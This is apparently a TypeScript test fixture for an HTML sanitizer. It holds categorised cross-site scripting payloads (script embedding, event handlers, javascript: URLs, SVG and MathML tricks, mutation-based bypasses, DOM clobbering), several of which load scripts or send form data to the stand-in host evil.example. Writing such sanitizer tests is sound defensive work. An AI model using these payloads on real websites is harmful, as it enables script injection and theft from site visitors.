// Bodies that attack the reader of an article, grouped by their trick. Every script in them calls `alert`, and every
// request in them goes to evil.example.

const evil = 'https://evil.example';

/** Elements that load or run something: the sanitizer must remove them. */
const embedding = [
  `<script>alert(1)</script>`,
  `<script src="${evil}/x.js"></script>`,
  `<SCRIPT/XSS SRC="${evil}/x.js"></SCRIPT>`,
  `<script>alert(1)//`,
  `<script type="module">import '${evil}/m.js'</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<iframe src="${evil}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>`,
  `<iframe src="javascript:parent.alert(1)"></iframe>`,
  `<object data="${evil}/o.swf"></object>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="${evil}/e.swf" allowscriptaccess="always">`,
  `<applet code="Evil" archive="${evil}/e.jar"></applet>`,
  `<portal src="${evil}/p"></portal><fencedframe src="${evil}/f"></fencedframe>`,
  `<audio src="${evil}/a.mp3" onerror="alert(1)" autoplay></audio>`,
  `<video poster="${evil}/p.png"><source src="${evil}/v.mp4" onerror="alert(1)"></video>`,
  `<link rel="stylesheet" href="${evil}/s.css">`,
  `<link rel="modulepreload" href="${evil}/m.js">`,
  `<style>@import '${evil}/s.css';</style>`,
  `<style>.body { background: url(${evil}/b.png) }</style>`,
  `<base href="${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<isindex action="javascript:alert(1)" type="image">`,
];

const handlers = [
  `<img src="/none" onerror="alert(1)">`,
  `<img src='/none'onerror=alert(1)>`,
  `<img/src="/none"/onerror="alert(1)"/>`,
  `<img src="/none" onerror
=
alert(1)>`,
  `<img src="/none" ONERROR=alert(1)>`,
  `<img src="/none" onerror="&#97;&#108;&#101;&#114;&#116;(1)">`,
  `<p onclick="alert(1)" onmouseover="alert(1)" onpointerenter="alert(1)">字</p>`,
  `<p tabindex="0" autofocus onfocus="alert(1)">字</p>`,
  `<details open ontoggle="alert(1)"><summary>字</summary></details>`,
  `<p style="animation: x 1s" onanimationstart="alert(1)">字</p>`,
  `<body onload="alert(1)" onpageshow="alert(1)">字`,
  `<marquee onstart="alert(1)">字</marquee>`,
  `<p contenteditable onbeforeinput="alert(1)" onpaste="alert(1)">字</p>`,
  `<p popover id="x" onbeforetoggle="alert(1)">字</p><button popovertarget="x">字</button>`,
];

const addresses = [
  `<a href="javascript:alert(1)">字</a>`,
  `<a href="JaVaScRiPt:alert(1)">字</a>`,
  `<a href=" javascript:alert(1)">字</a>`,
  `<a href="java\tscript:alert(1)">字</a>`,
  `<a href="java\nscript:alert(1)">字</a>`,
  `<a href="\u0001javascript:alert(1)">字</a>`,
  `<a href="&#1;&#14;javascript:alert(1)">字</a>`,
  `<a href="&#106;avascript&colon;alert(1)">字</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">字</a>`,
  `<a href="java&Tab;script&NewLine;:alert(1)">字</a>`,
  `<a href="javascript://news.example/%0aalert(1)">字</a>`,
  `<a href="vbscript:msgbox(1)">字</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">字</a>`,
  `<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">字</a>`,
  `<a href="blob:${evil}/1">字</a><a href="filesystem:${evil}/1">字</a><a href="file:///etc">字</a>`,
  `<a href="view-source:javascript:alert(1)">字</a>`,
  `<a href="/ok" ping="${evil}/ping" target="_blank" download>字</a>`,
  `<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img srcset="${evil}/a.png 1x, ${evil}/b.png 2x">`,
  `<picture><source srcset="${evil}/a.png"><img src="/favicon.svg"></picture>`,
  `<img lowsrc="${evil}/a.png" dynsrc="${evil}/b.png" longdesc="javascript:alert(1)">`,
  `<table background="${evil}/t.png"><tr><td background="${evil}/d.png">字</td></tr></table>`,
  `<p style="background-image: url(${evil}/p.png)">字</p>`,
  `<p style="width: expression(alert(1)); behavior: url(${evil}/x.htc)">字</p>`,
  `<blockquote cite="javascript:alert(1)">字</blockquote><q cite="${evil}/q">字</q>`,
];

const forms = [
  `<form action="javascript:alert(1)"><input type="submit" value="字"></form>`,
  `<form id="f" action="${evil}/post"><button>字</button></form><button form="f">字</button>`,
  `<button formaction="javascript:alert(1)">字</button>`,
  `<input type="image" src="${evil}/i.png" onerror="alert(1)">`,
  `<input autofocus onfocus="alert(1)"><textarea autofocus onfocus="alert(1)"></textarea>`,
  `<form><input name="attributes"><input name="parentNode"></form>`,
  `<select><option><style></option></select><img src="/none" onerror="alert(1)"></style>`,
];

const clobbering = [
  `<a id="documentElement">字</a><a name="getElementById">字</a>`,
  `<form name="body"><input name="firstChild"></form><img name="cookie" src="/favicon.svg">`,
  `<img name="querySelector" src="/favicon.svg"><img id="currentScript" name="currentScript" src="/x">`,
  `<p id="main">字</p><p id="board-week" class="columns">字</p>`,
  `<p data-view="/views/1 x" data-time="0">字</p>`,
  `<a id="defaultView"></a><a id="defaultView" name="x" href="cid:alert(1)">字</a>`,
  `<p is="x-evil" slot="s" part="p" itemscope itemid="${evil}">字</p>`,
];

const foreign = [
  `<svg onload="alert(1)"></svg>`,
  `<svg/onload=alert(1)//`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><script href="${evil}/x.js"></script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text y="9">字</text></a></svg>`,
  `<svg><use href="${evil}/u.svg#x"></use><image href="${evil}/i.png"></image></svg>`,
  `<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a><set attributeName="href" to="javascript:alert(1)"></set><text>字</text></a></svg>`,
  `<svg><foreignObject><img src="/none" onerror="alert(1)"></foreignObject></svg>`,
  `<svg><desc><img src="/none" onerror="alert(1)"></desc></svg>`,
  `<svg><style><img src="/none" onerror="alert(1)"></style></svg>`,
  `<svg><title><style></title><img src="/none" onerror="alert(1)"></style></svg>`,
  `<math href="javascript:alert(1)"><mi>字</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">字</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src="/none" onerror="alert(1)"></annotation-xml></math>`,
];

/** Markup that is harmless in the sanitizer's tree but harmful in the tree that a browser makes of it. */
const mutation = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/none onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src="/none" onerror="alert(1)">`,
  `<svg></p><style><a title="</style><img src=/none onerror=alert(1)>">`,
  `<svg><p><style><g title="</style><img src=/none onerror=alert(1)>"></g></style></p></svg>`,
  `<math><annotation-xml><p><style><a title="</style><img src=/none onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=/none onerror=alert(1)>"></noscript>`,
  `<noembed><img title="</noembed><img src=/none onerror=alert(1)>"></noembed>`,
  `<noframes><img title="</noframes><img src=/none onerror=alert(1)>"></noframes>`,
  `<xmp><p title="</xmp><img src=/none onerror=alert(1)>"></xmp>`,
  `<textarea><p title="</textarea><img src=/none onerror=alert(1)>"></textarea>`,
  `<title><p title="</title><img src=/none onerror=alert(1)>"></title>`,
  `<plaintext><img src="/none" onerror="alert(1)">`,
  `<template><img src="/none" onerror="alert(1)"></template>`,
  `<template><template></template><script>alert(1)</script>`,
  `<div><template shadowrootmode="open"><img src="/none" onerror="alert(1)"></template></div>`,
  `<table><td><svg><desc><td></desc></svg><img src="/none" onerror="alert(1)"></td></table>`,
  `<table><script>alert(1)</script><tr><img src="/none" onerror="alert(1)"></table>`,
  `<select><svg><style><img src="/none" onerror="alert(1)"></style></svg></select>`,
  `<a><table><a><svg onload="alert(1)"></a></table></a>`,
  `<ul><li><div><section><li>字</section></div></li></ul></div></article></main><p class="x">字</p>`,
  `<ul><li><div><section><li><div><section><li>字</section></div></section></div></li></ul>字`,
  `<dl><dd><div><center><dd>字</dd></center></div></dd></dl>字<img src="/none" onerror="alert(1)">`,
  `</div></article></main></div></body></html><img src="/none" onerror="alert(1)">`,
];

const halves = [
  `<img src="/none" onerror="alert(1)"`,
  `<img src="/none" title="\u0000" onerror="alert(1)`,
  `<<script>alert(1)//<</script>`,
  `<p title="'"><img title='"><img src=/none onerror=alert(1)>'>`,
  `<p <img src="/none" onerror="alert(1)">字</p>`,
  `</p/><img src="/none" onerror="alert(1)"></`,
  `<!--><img src="/none" onerror="alert(1)">-->`,
  `<!--><svg onload=alert(1)>`,
  `<!-- --!><img src="/none" onerror="alert(1)">`,
  `<![CDATA[><img src="/none" onerror="alert(1)">]]>`,
  `<?xml-stylesheet href="javascript:alert(1)"?><img src="/none" onerror="alert(1)">`,
  `<!doctype html><html onclick="alert(1)"><head><script>alert(1)</script></head>`,
  `<%<img src="/none" onerror="alert(1)">%>`,
  `<!--nextpage--><img src="/none" onerror="alert(1)"><!--nextpage-->`,
  `<!--nextpage--!><img src="/none" onerror="alert(1)">-->`,
  `<p><!-- pagebreak --><hr class="page-break" onmouseover="alert(1)"></p>`,
  `<hr class="page-break"onmouseover="alert(1)"x="</article><footer>">`,
  `<scrip\u0000t>alert(1)</scrip\u0000t><im\u0000g src="/none" onerror="alert(1)">`,
  `<img\u000csrc="/none"\u000conerror="alert(1)">`,
  `<ſcript>alert(1)</ſcript><ımg src="/none" onerror="alert(1)"><svg\u00a0onload=alert(1)>`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img src="/none" onerror="alert(1)">`,
  `${'<b>'.repeat(60)}<img src="/none" onerror="alert(1)">`,
  `${'<div>'.repeat(5_000)}<img src="/none" onerror="alert(1)">`,
  `<p title="${'x'.repeat(200_000)}" onclick="alert(1)">字</p>`,
  `<img src="/none" ${'x '.repeat(2_000)} onerror="alert(1)">`,
];

/** Markup that is harmless in today's browsers, although a filter for patterns would catch it. */
export const decoys = [
  `<frameset onload="alert(1)"><frame src="${evil}/f"></frameset>`,
  '<img src=`/none`onerror=alert(1)//`>',
  `<a href="/x" title='"onmouseover=alert(1) x="'>字</a>`,
  `<!---!><img src="/none" onerror="alert(1)">-->`,
  `\ufe64img src="/none" onerror="alert(1)">\uff1cscript\uff1ealert(1)\uff1c/script\uff1e`,
  `&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
];

export const attacks = [
  ...embedding,
  ...handlers,
  ...addresses,
  ...forms,
  ...clobbering,
  ...foreign,
  ...mutation,
  ...halves,
];

/** The elements that may stay in a body, and the attributes that each may have. */
export const allowed: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    [
      ...['h2', 'h3', 'h4', 'h5', 'h6', 'p', 'div', 'br', 'hr', 'ul', 'ol', 'li', 'dl', 'dt', 'dd'],
      ...['blockquote', 'pre', 'code', 'figure', 'figcaption', 'table', 'caption', 'thead'],
      ...['tbody', 'tfoot', 'tr', 'strong', 'b', 'em', 'i', 'u', 's', 'del', 'ins', 'mark', 'sub'],
      ...['sup', 'small', 'q', 'cite', 'kbd', 'ruby', 'rt', 'rp'],
    ].map((name) => [name, []]),
  ),
  a: ['href', 'rel', 'title'],
  abbr: ['title'],
  img: ['alt', 'decoding', 'height', 'loading', 'src', 'title', 'width'],
  ol: ['reversed', 'start'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan', 'scope'],
};
